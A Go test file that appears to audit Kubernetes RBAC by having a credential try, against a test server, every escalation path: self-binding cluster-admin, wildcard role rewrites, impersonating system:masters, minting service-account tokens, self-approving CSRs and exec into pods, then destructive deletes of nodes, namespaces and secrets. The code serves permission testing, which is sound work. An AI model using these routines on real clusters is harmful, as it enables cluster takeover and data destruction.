package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
)

// kubeAttack is a credential with all that it may try.
type kubeAttack struct {
	*kubeServer
	*kubeSet
	t *testing.T
	// all are those whom it became, itself first.
	all  []kubeWho
	seen answer
	// done are bindings that were made, and roles that were written.
	done map[string]bool
	// stronger says that something changed for those whom it is already.
	stronger bool
}

func newAttack(t *testing.T, s *kubeServer, set *kubeSet) *kubeAttack {
	a := &kubeAttack{kubeServer: s, kubeSet: set, t: t, seen: answer{}, done: map[string]bool{}}
	if set.account {
		a.all = []kubeWho{s.token(t, "shop-"+set.n, "app")}
	} else {
		a.all = []kubeWho{s.certified(t, "app-"+set.n, set.groups)}
	}
	for thing := range kubeThings {
		a.seen[thing] = false
	}
	return a
}

// climb takes every way to more, until there is none.
func (a *kubeAttack) climb() {
	for range 4 {
		a.stronger = false
		for i := 0; i < len(a.all); i++ {
			who := a.all[i]
			if a.may(who, http.MethodGet, "/api/v1/nodes/node-"+a.n+"/proxy/metrics", "") {
				a.seen["reach into nodes"] = true
				a.become(a.token(a.t, "shop-"+a.n, "weak"))
				a.become(a.token(a.t, "web-"+a.n, "weak"))
			}
			a.writeRoles(who)
			a.bindRoles(who)
			a.impersonate(who)
			a.sign(who)
			for _, space := range a.spaces() {
				a.takeTokens(who, space)
				a.runPods(who, space)
				a.enterPods(who, space)
			}
		}
		if !a.stronger {
			return
		}
		a.gathered(a.t)
	}
}

func (a *kubeAttack) become(who kubeWho) {
	if !has(a.all, who.name) && len(a.all) < 40 {
		a.all = append(a.all, who)
	}
}

// subject is somebody as the subject of a binding.
func (a *kubeAttack) subject(who kubeWho) string {
	name, _, _ := strings.Cut(who.name, " in ")
	return "{kind: User, name: '" + name + "', apiGroup: rbac.authorization.k8s.io}"
}

// bindRoles binds every role to itself, everywhere.
func (a *kubeAttack) bindRoles(who kubeWho) {
	for _, role := range append([]string{"ClusterRole/cluster-admin", "ClusterRole/admin", "ClusterRole/edit", "ClusterRole/view"}, a.roles...) {
		kind, name, _ := strings.Cut(role, "/")
		ref := "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: " + kind + ", name: " + name + "}\nsubjects: [" + a.subject(who) + "]\n"
		if kind == "ClusterRole" {
			a.write(who, kubeRBACPath+"clusterrolebindings", kubeRBACv1+"kind: ClusterRoleBinding\nmetadata: {name: @}\n"+ref)
		}
		for _, space := range a.spaces() {
			a.write(who, kubeRBACPath+"namespaces/"+space+"/rolebindings", kubeRBACv1+"kind: RoleBinding\nmetadata: {name: @, namespace: "+space+"}\n"+ref)
		}
	}
}

// write makes an object of any name, or, by a patch, one named evil.
func (a *kubeAttack) write(who kubeWho, path, object string) {
	done := a.did(who, http.MethodPost, "/"+path, strings.Replace(object, "@", fmt.Sprintf("x%d-%s", a.marks.Add(1), a.n), 1))
	if !done && strings.Contains(path, "namespaces/") {
		done = a.did(who, http.MethodPatch, "/"+path+"/evil?fieldManager=a&force=true", strings.Replace(object, "@", "evil", 1))
	}
	if done && !a.done[who.name+object] {
		a.done[who.name+object], a.stronger = true, true
	}
}

// writeRoles writes everything into every role of the set.
func (a *kubeAttack) writeRoles(who kubeWho) {
	for _, role := range a.roles {
		kind, name, _ := strings.Cut(role, "/")
		paths := []string{kubeRBACPath + "clusterroles/" + name}
		if kind == "Role" {
			paths = paths[:0]
			for _, space := range a.spaces() {
				paths = append(paths, kubeRBACPath+"namespaces/"+space+"/roles/"+name)
			}
		}
		for _, path := range paths {
			if a.done[path] {
				continue
			}
			rules := `{"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}`
			done := a.did(who, http.MethodPatch, "/"+path, rules)
			if !done {
				done = a.replace(who, path)
			}
			if done {
				a.done[path], a.stronger = true, true
			}
		}
	}
}

// replace puts a role anew, for those who may update and not patch.
func (a *kubeAttack) replace(who kubeWho, path string) bool {
	_, text := a.request(a.admin, http.MethodGet, "/"+path, "")
	var object map[string]any
	if json.Unmarshal([]byte(text), &object) != nil || object["kind"] == "Status" {
		return false
	}
	object["rules"] = []any{map[string]any{"apiGroups": []string{"*"}, "resources": []string{"*"}, "verbs": []string{"*"}}}
	put, err := json.Marshal(object)
	return err == nil && a.did(who, http.MethodPut, "/"+path, string(put))
}

// impersonate acts as everybody by a header. One who acts as somebody else already
// can't.
func (a *kubeAttack) impersonate(who kubeWho) {
	if who.as != nil {
		return
	}
	users := []string{"boss-" + a.n, "app-" + a.n}
	for _, space := range a.spaces() {
		for _, account := range []string{"app", "strong", "weak"} {
			users = append(users, "system:serviceaccount:"+space+":"+account)
		}
	}
	groups := []string{"", "system:masters", "devs-" + a.n, "ops-" + a.n}
	for _, user := range users {
		for _, group := range groups {
			as := kubeWho{name: user, client: who.client, token: who.token, as: http.Header{"Impersonate-User": {user}}}
			if group != "" {
				as.name += " in " + group
				as.as["Impersonate-Group"] = []string{group}
			}
			if has(a.all, as.name) {
				continue
			}
			if !a.did(as, http.MethodPost, "/apis/authentication.k8s.io/v1/selfsubjectreviews", "apiVersion: authentication.k8s.io/v1\nkind: SelfSubjectReview\n") {
				if group == "" {
					break
				}
				continue
			}
			a.become(as)
		}
	}
}

// takeTokens asks for tokens of accounts, makes secrets that get one, and reads them.
func (a *kubeAttack) takeTokens(who kubeWho, space string) {
	for _, account := range []string{"app", "strong", "weak"} {
		name := "system:serviceaccount:" + space + ":" + account
		if has(a.all, name) && a.seen["get a token"] {
			continue
		}
		_, text := a.request(who, http.MethodPost, "/api/v1/namespaces/"+space+"/serviceaccounts/"+account+"/token", kubeTokenRequest)
		if token, err := tokenIn(text); err == nil {
			a.seen["get a token"] = true
			a.become(a.bearing(name, token))
		}
		secret := "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\nmetadata: {name: got-" + account + ", namespace: " + space + ", annotations: {kubernetes.io/service-account.name: " + account + "}}\n"
		if a.did(who, http.MethodPost, "/api/v1/namespaces/"+space+"/secrets", secret) {
			for range 100 {
				_, text := a.request(a.admin, http.MethodGet, "/api/v1/namespaces/"+space+"/secrets/got-"+account, "")
				if strings.Contains(text, `"token"`) {
					break
				}
				time.Sleep(10 * time.Millisecond)
			}
		}
	}
	a.readSecrets(who, space)
}

// readSecrets reads secrets one by one, at once, and by their names in a list.
func (a *kubeAttack) readSecrets(who kubeWho, space string) {
	var texts []string
	path := "/api/v1/namespaces/" + space + "/secrets"
	for _, name := range []string{"plain", "strong-token", "got-app", "got-strong", "got-weak"} {
		if a.done[space+" "+name] {
			continue // read already
		}
		for _, way := range []string{"/" + name, "?fieldSelector=metadata.name%3D" + name, "?watch=true&timeoutSeconds=1&fieldSelector=metadata.name%3D" + name} {
			if status, text := a.request(who, http.MethodGet, path+way, ""); status == http.StatusOK {
				texts = append(texts, text)
				a.done[space+" "+name] = strings.Contains(text, `"data"`)
				break
			}
		}
	}
	for _, text := range texts {
		a.seen["read secrets"] = a.seen["read secrets"] || strings.Contains(text, "c29tZXRoaW5n")
		for rest := text; ; {
			_, after, found := strings.Cut(rest, `"token":"`)
			if !found {
				break
			}
			encoded, more, _ := strings.Cut(after, `"`)
			rest = more
			token, err := base64.StdEncoding.DecodeString(encoded)
			if _, account, ok := strings.Cut(text, `"kubernetes.io/service-account.name":"`); ok && err == nil {
				account, _, _ = strings.Cut(account, `"`)
				a.become(a.bearing("system:serviceaccount:"+space+":"+account, string(token)))
			}
		}
	}
}

// kubeWorkloads are what runs pods, with the path and the body around a pod's.
var kubeWorkloads = []struct{ path, body string }{
	{"api/v1/@/pods", "apiVersion: v1\nkind: Pod\nmetadata: {name: $}\nspec: %\n"},
	{"apis/apps/v1/@/deployments", "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: $}\nspec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: %}}\n"},
	{"apis/apps/v1/@/replicasets", "apiVersion: apps/v1\nkind: ReplicaSet\nmetadata: {name: $}\nspec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: %}}\n"},
	{"apis/apps/v1/@/daemonsets", "apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: $}\nspec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: %}}\n"},
	{"apis/apps/v1/@/statefulsets", "apiVersion: apps/v1\nkind: StatefulSet\nmetadata: {name: $}\nspec: {serviceName: a, selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: %}}\n"},
	{"apis/batch/v1/@/jobs", "apiVersion: batch/v1\nkind: Job\nmetadata: {name: $}\nspec: {template: {spec: %}}\n"},
	{"apis/batch/v1/@/cronjobs", "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: $}\nspec: {schedule: '0 0 1 1 *', jobTemplate: {spec: {template: {spec: %}}}}\n"},
	{"api/v1/@/replicationcontrollers", "apiVersion: v1\nkind: ReplicationController\nmetadata: {name: $}\nspec: {selector: {a: b}, template: {metadata: {labels: {a: b}}, spec: %}}\n"},
}

// runPods runs pods as every account of a namespace. What a kubelet would hand to
// the pod, the account's token, is taken for it.
func (a *kubeAttack) runPods(who kubeWho, space string) {
	for _, account := range []string{"app", "strong", "weak"} {
		if has(a.all, "system:serviceaccount:"+space+":"+account) && a.seen["run pods"] {
			continue
		}
		for _, w := range kubeWorkloads {
			path := "/" + strings.Replace(w.path, "@", "namespaces/"+space, 1)
			body := strings.Replace(w.body, "%", "{restartPolicy: "+restarts(w.path)+", serviceAccountName: "+account+", containers: [{name: a, image: a}]}", 1)
			if a.did(who, http.MethodPost, path, strings.Replace(body, "$", fmt.Sprintf("x%d", a.marks.Add(1)), 1)) ||
				a.did(who, http.MethodPatch, path+"/evil?fieldManager=a&force=true", strings.Replace(body, "$", "evil", 1)) {
				a.seen["run pods"] = true
				a.become(a.token(a.t, space, account))
				a.did(a.admin, http.MethodDelete, path+"/evil?gracePeriodSeconds=0", "") // so that the name is free for the next
			}
		}
		for _, path := range []string{"apps/v1/@/daemonsets", "apps/v1/@/statefulsets", "apps/v1/@/replicasets", "batch/v1/@/cronjobs"} {
			// None is there, so that the server says "not found" to whoever may.
			path = "/apis/" + strings.Replace(path, "@", "namespaces/"+space, 1) + "/web"
			if a.may(who, http.MethodPatch, path, "{}") || a.may(who, http.MethodPut, path, "{}") {
				a.seen["change a deployment"] = true
				a.become(a.token(a.t, space, account))
			}
		}
		if rc := "/api/v1/namespaces/" + space + "/replicationcontrollers/web"; a.may(who, http.MethodPatch, rc, "{}") {
			a.seen["change a deployment"] = true
			a.become(a.token(a.t, space, account))
		}
		change := `{"spec": {"template": {"spec": {"serviceAccountName": "` + account + `"}}}}`
		if a.did(who, http.MethodPatch, "/apis/apps/v1/namespaces/"+space+"/deployments/web", change) || a.update(who, space, account) {
			a.seen["change a deployment"] = true
			a.become(a.token(a.t, space, account))
		}
	}
}

func restarts(path string) string {
	if strings.Contains(path, "jobs") {
		return "Never"
	}
	return "Always"
}

// update puts the deployment anew, for those who may update and not patch.
func (a *kubeAttack) update(who kubeWho, space, account string) bool {
	path := "/apis/apps/v1/namespaces/" + space + "/deployments/web"
	status, text := a.request(a.admin, http.MethodGet, path, "")
	return status == http.StatusOK && a.did(who, http.MethodPut, path, strings.Replace(text, `"serviceAccountName":"weak"`, `"serviceAccountName":"`+account+`"`, 1))
}

// enterPods runs commands in the pod that is there, which runs as weak.
func (a *kubeAttack) enterPods(who kubeWho, space string) {
	pod := "/api/v1/namespaces/" + space + "/pods/worker"
	entered := a.may(who, http.MethodPost, pod+"/exec?command=id&container=a&stdout=true", "") ||
		a.may(who, http.MethodPost, pod+"/attach?container=a&stdout=true", "") ||
		a.did(who, http.MethodPatch, pod+"/ephemeralcontainers", `{"spec": {"ephemeralContainers": [{"name": "e`+fmt.Sprint(a.marks.Add(1))+`", "image": "a", "terminationMessagePolicy": "File", "imagePullPolicy": "Always"}]}}`)
	if entered {
		a.seen["run a command in a pod"] = true
	}
	if entered || a.did(who, http.MethodPatch, pod, `{"spec": {"containers": [{"name": "a", "image": "b"}]}}`) {
		a.become(a.token(a.t, space, "weak"))
	}
}

// sign asks for a certificate of boss and approves of it.
func (a *kubeAttack) sign(who kubeWho) {
	if has(a.all, "boss-"+a.n) {
		return
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		a.t.Fatal(err)
	}
	raw, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: "boss-" + a.n}}, key)
	if err != nil {
		a.t.Fatal(err)
	}
	name := fmt.Sprintf("c%d-%s", a.marks.Add(1), a.n)
	asked := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: raw}))
	path := "/apis/certificates.k8s.io/v1/certificatesigningrequests"
	status, text := a.request(who, http.MethodPost, path, "apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\nmetadata: {name: "+name+"}\nspec: {request: "+asked+", signerName: kubernetes.io/kube-apiserver-client, usages: [client auth]}\n")
	var object map[string]any
	if status != http.StatusCreated || json.Unmarshal([]byte(text), &object) != nil {
		return
	}
	object["status"] = map[string]any{"conditions": []any{map[string]any{"type": "Approved", "status": "True", "reason": "a", "message": "a"}}}
	approved, err := json.Marshal(object)
	if err != nil || !a.did(who, http.MethodPut, path+"/"+name+"/approval", string(approved)) {
		return
	}
	for range 200 {
		_, text := a.request(a.admin, http.MethodGet, path+"/"+name, "")
		var signed struct{ Status struct{ Certificate []byte } }
		if json.Unmarshal([]byte(text), &signed) == nil && len(signed.Status.Certificate) > 0 {
			block, _ := pem.Decode(bytes.TrimSpace(signed.Status.Certificate))
			a.become(a.with("boss-"+a.n, tls.Certificate{Certificate: [][]byte{block.Bytes}, PrivateKey: key}))
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	a.t.Fatal("an approved request is not signed")
}

// strike destroys what can be destroyed, by anybody whom it became.
func (a *kubeAttack) strike() answer {
	tries := map[string][]string{
		"take nodes out":        {"DELETE /api/v1/nodes/node-" + a.n},
		"delete resource types": {"DELETE /apis/apiextensions.k8s.io/v1/customresourcedefinitions/things.example.com"},
		"delete a namespace":    {},
	}
	for _, space := range a.spaces() {
		core, apps := "/api/v1/namespaces/"+space, "/apis/apps/v1/namespaces/"+space
		for thing, way := range map[string][]string{
			"read configuration": {"GET " + core + "/configmaps/settings", "GET " + core + "/configmaps?fieldSelector=metadata.name%3Dsettings",
				"GET " + core + "/configmaps?watch=true&timeoutSeconds=1&fieldSelector=metadata.name%3Dsettings"},
			"delete secrets":       {"DELETE " + core + "/secrets/plain", "DELETE " + core + "/secrets"},
			"delete volume claims": {"DELETE " + core + "/persistentvolumeclaims/data", "DELETE " + core + "/persistentvolumeclaims"},
			"delete pods":          {"DELETE " + core + "/pods/worker", "DELETE " + core + "/pods", "POST " + core + "/pods/worker/eviction"},
			"stop a deployment":    {"PATCH " + apps + "/deployments/web/scale", "PUT " + apps + "/deployments/web/scale", "DELETE " + apps + "/deployments/web", "DELETE " + apps + "/deployments"},
			"delete a namespace":   {"DELETE /api/v1/namespaces/" + space},
		} {
			tries[thing] = append(tries[thing], way...)
		}
	}
	// Namespaces go last, for everything goes with them.
	things := slices.Sorted(maps.Keys(tries))
	things = append(slices.DeleteFunc(things, func(thing string) bool { return thing == "delete a namespace" }), "delete a namespace")
	for _, thing := range things {
		for _, who := range a.all {
			for _, way := range tries[thing] {
				if method, path, _ := strings.Cut(way, " "); !a.seen[thing] {
					a.seen[thing] = a.tried(who, method, path)
				}
			}
		}
	}
	hook := "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: hook-" + a.n + "}\n"
	for _, who := range a.all {
		path := "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"
		a.seen["rewrite what is written"] = a.seen["rewrite what is written"] || a.did(who, http.MethodPost, path+"?dryRun=All", hook)
	}
	return a.seen
}

// tried says whether a call went through. What is not there any more was somebody's
// to delete.
func (a *kubeAttack) tried(who kubeWho, method, path string) bool {
	body := ""
	switch {
	case method == http.MethodPatch:
		body = `{"spec": {"replicas": 0}}`
	case method == http.MethodPut:
		_, text := a.request(a.admin, http.MethodGet, path, "")
		body = text
	case method == http.MethodPost:
		body = "apiVersion: policy/v1\nkind: Eviction\nmetadata: {name: worker}\n"
	}
	return a.may(who, method, path, body)
}
